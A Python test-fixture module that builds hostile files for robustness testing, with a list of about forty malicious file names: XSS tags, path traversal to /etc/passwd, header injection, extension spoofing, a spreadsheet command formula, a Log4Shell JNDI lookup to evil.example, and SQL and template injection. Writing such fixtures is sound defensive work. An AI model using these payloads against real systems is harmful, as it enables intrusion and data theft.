"""Three hundred files that nobody should have to open: made by code from a seed, each with what becomes of it."""

from __future__ import annotations

from collections.abc import Iterator
from functools import cache

from documents_made import picture
from hostile import Hostile, taken
from hostile_hidden import hidden_files
from hostile_offices import hostile_offices
from hostile_pdfs import hostile_pdfs
from hostile_strangers import strange_files


@cache
def hostile_files() -> tuple[Hostile, ...]:
    """All of them."""
    return (*strange_files(), *hostile_pdfs(), *hostile_offices(), *hidden_files(), *hostile_names())


NAMES = (
    "<script>alert(1)</script>.pdf",
    '"><img src=x onerror=alert(1)>.pdf',
    "'onmouseover='alert(1).pdf",
    "javascript:alert(1).pdf",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "C:\\boot.ini",
    "....//....//evil.pdf",
    "%2e%2e%2fevil.pdf",
    "a\r\nSet-Cookie: x=1.pdf",
    "a\nContent-Type: text/html.pdf",
    "a\x00.exe.pdf",
    "evil.pdf\x00.exe",
    "invoice\u202efdp.exe",
    "\u2066\u2069\u200f.pdf",
    "\u200b\u200b\u200b",
    "=cmd|'/c calc'!A0.pdf",
    "+1+1.pdf",
    "@SUM(A1).pdf",
    "-2+3.pdf",
    "{{7*7}}.pdf",
    "${jndi:ldap://evil.example}.pdf",
    "#set page(width: 1pt)[*x*].pdf",
    "%s%s%n.pdf",
    "'; DROP TABLE document;--.pdf",
    "CON.pdf",
    "nul",
    "a.pdf.",
    "   .pdf",
    ".htaccess",
    "..",
    'x"; filename="evil.html',
    "a;b.pdf",
    "가" * 300 + ".pdf",
    "a" * 9_000 + ".pdf",
    "\U0001f4a3\U0001f468\u200d\U0001f469.pdf",
    "e\u0301\u0301\u0301.pdf",
    "\ud55c\uae00.pdf",
    "a\tb.pdf",
)


def hostile_names() -> Iterator[Hostile]:
    """A small picture under each of `NAMES`."""
    for number, name in enumerate(NAMES):
        yield taken(f"name: {name[:40]!r}", name, picture(size=(10 + number, 10)))
